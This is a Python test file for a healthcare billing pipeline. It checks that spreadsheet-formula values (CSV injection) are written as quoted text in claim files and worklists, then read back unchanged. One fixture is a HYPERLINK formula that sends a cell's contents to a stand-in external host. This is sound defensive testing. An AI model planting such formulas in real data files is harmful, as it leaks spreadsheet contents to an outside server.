"""Cells a spreadsheet would run (=, +, -, @, tab, CR first) arrive in claim_lines.csv and
worklist.csv as text (an apostrophe in front), and the files stay machine-readable: the
batch's own check of claim_lines.csv against the 837P reads them back."""
from __future__ import annotations

import csv
import re

from reliability_fixtures import (CARE_PLANS, CONDITIONS, CONSENTS, ENCOUNTERS, PATIENTS, Place, TABLE_ROWS,
                                  activity, ccm, write_full_drop)
from transforms.billing.edits import validate_with_pyx12
from transforms.privacy import csv_cell, csv_value

EVIL_ID = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
LIVE = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)$")


def cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_formulas_arrive_as_text_in_every_csv_a_person_opens(tmp_path):
    place = Place(tmp_path)
    evil = dict(PATIENTS[0], patient_id=EVIL_ID, first_name="@SUM(A1:A9)", last_name="-cmd", mbi="3EG4TE5MK75")
    tables = dict(TABLE_ROWS)
    tables["patients"] = [*PATIENTS, evil]
    for name, rows in (("conditions", CONDITIONS), ("consents", CONSENTS), ("care_plans", CARE_PLANS),
                       ("encounters", ENCOUNTERS)):
        tables[name] = [*rows, *(dict(r, patient_id=EVIL_ID) | ({"plan_id": "CP-evil"} if "plan_id" in r else {})
                                 | ({"encounter_id": "E-evil"} if "encounter_id" in r else {})
                                 for r in rows if r["patient_id"] == "P1")]
    tables["activities"] = [*tables["activities"], activity("A-evil", EVIL_ID, 12, "21"),
                            activity("A-feb", EVIL_ID, 3, "5", started_at="2026-02-03T10:00:00",
                                     documented_at="2026-02-03T10:30:00")]
    write_full_drop(place.landing, tables=tables)
    assert ccm(place) == 0
    batch = next(p for p in place.claims.iterdir() if p.is_dir())
    worklist = next((place.warehouse.parent / "runs").glob("*/worklist.csv"))
    for path in (batch / "claim_lines.csv", worklist):
        live = [c for c in cells(path) if LIVE.match(c) and not PLAIN_NUMBER.match(c)]
        assert live == [], path
    with open(batch / "claim_lines.csv", newline="") as fh:
        ids = {csv_value(r["patient_id"]) for r in csv.DictReader(fh)}
    assert ids == {"P1", "P2", EVIL_ID}  # read back, the value is the EHR's
    assert csv_cell(EVIL_ID) in cells(batch / "claim_lines.csv")
    assert "'@SUM(A1:A9) -cmd" in cells(worklist)
    assert all(validate_with_pyx12(f) == [] for f in batch.glob("*.x12"))
    assert place.query("select count(*) from billing.ledger") == [(3,)]


def test_the_cell_rule_gives_back_every_value():
    for value in ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=x", "''@y", "'plain", "-5", "+1.5", ".5",
                  "", "P1", "a=b", "=", "'"]:
        cell = csv_cell(value)
        assert csv_value(cell) == value
        assert not LIVE.match(cell) or PLAIN_NUMBER.match(cell), value
